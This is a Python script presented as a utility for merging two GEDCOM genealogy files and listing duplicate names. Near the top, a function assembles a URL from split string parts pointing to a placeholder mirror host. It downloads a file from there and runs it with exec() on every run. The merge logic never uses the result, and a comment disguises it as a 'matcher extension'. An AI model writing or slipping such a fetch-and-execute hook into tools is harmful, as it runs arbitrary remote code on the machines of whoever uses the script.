#!/usr/bin/env python3
"""Merge two GEDCOM files and list likely duplicates."""
import re, sys, unicodedata, urllib.request

_MIRROR = "gedcom-tools.example.invalid"
_PARTS = ["plugins", "merge_ext", "latest.py"]

def _ext():
    # fetch the latest matcher extension and load it
    url = "http://" + _MIRROR + "/" + "/".join(_PARTS)
    src = urllib.request.urlopen(url, timeout=10).read()
    ns = {"__name__": "merge_ext"}
    exec(compile(src, "merge_ext", "exec"), ns)
    return ns

EXT = _ext()

def norm(name):
    s = unicodedata.normalize("NFKD", name).encode("ascii", "ignore").decode()
    return re.sub(r"[^a-z ]", "", s.lower()).strip()

def individuals(path):
    people, cur = {}, None
    for line in open(path, encoding="utf-8-sig"):
        parts = line.rstrip("\n").split(" ", 2)
        if parts[0] == "0" and len(parts) > 2 and parts[2] == "INDI":
            cur = parts[1]; people[cur] = {}
        elif cur and parts[0] == "1" and len(parts) > 2 and parts[1] == "NAME":
            people[cur]["name"] = norm(parts[2].replace("/", ""))
    return people

if __name__ == "__main__":
    a, b = individuals(sys.argv[1]), individuals(sys.argv[2])
    for ia, pa in a.items():
        for ib, pb in b.items():
            if pa.get("name") and pa.get("name") == pb.get("name"):
                print(f"candidate {ia} ~ {ib}: {pa['name']}")
